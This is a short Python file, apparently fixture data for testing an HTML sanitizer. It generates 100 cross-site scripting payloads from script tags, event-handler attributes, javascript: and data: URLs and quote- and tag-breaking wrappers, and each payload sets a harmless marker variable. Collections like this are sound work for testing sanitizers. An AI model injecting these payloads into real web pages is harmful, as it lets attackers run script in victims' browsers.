"""One hundred ways to smuggle a script into a page, each of which would set `globalThis.pwned` if it ran."""

SCRIPT = "globalThis.pwned=1"
ELEMENTS = [
    f"<script>{SCRIPT}</script>",
    f"<img src=x onerror={SCRIPT}>",
    f"<svg onload={SCRIPT}>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<iframe srcdoc='<script>parent.{SCRIPT}</script>'>",
    f"<body onload={SCRIPT}>",
    f"<details open ontoggle={SCRIPT}>",
    f"<input autofocus onfocus={SCRIPT}>",
    f"<video><source onerror={SCRIPT}></video>",
    f"<math><mtext><img src=x onerror={SCRIPT}></mtext></math>",
    f"<a href='javascript:{SCRIPT}'>x</a>",
    f"<object data='javascript:{SCRIPT}'>",
    f"<embed src='javascript:{SCRIPT}'>",
    f"<form action='javascript:{SCRIPT}'><button>x</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{SCRIPT}'>",
    f"<style>@import 'javascript:{SCRIPT}'</style>",
    f"<link rel=stylesheet href='javascript:{SCRIPT}'>",
    f"<template><script>{SCRIPT}</script></template>",
    f"<marquee onstart={SCRIPT}>",
    f"<select autofocus onfocus={SCRIPT}>",
]
WRAPPERS = ["{}", '">{}', "'>{}", "</textarea>{}", "\u202e</script>{}\x0b"]
PAYLOADS = [wrapper.format(element) for element in ELEMENTS for wrapper in WRAPPERS]
URLS = [f"javascript:{SCRIPT}", f"data:text/html,<script>{SCRIPT}</script>", f'https://example.com/"onclick={SCRIPT}']
assert len(PAYLOADS) == 100
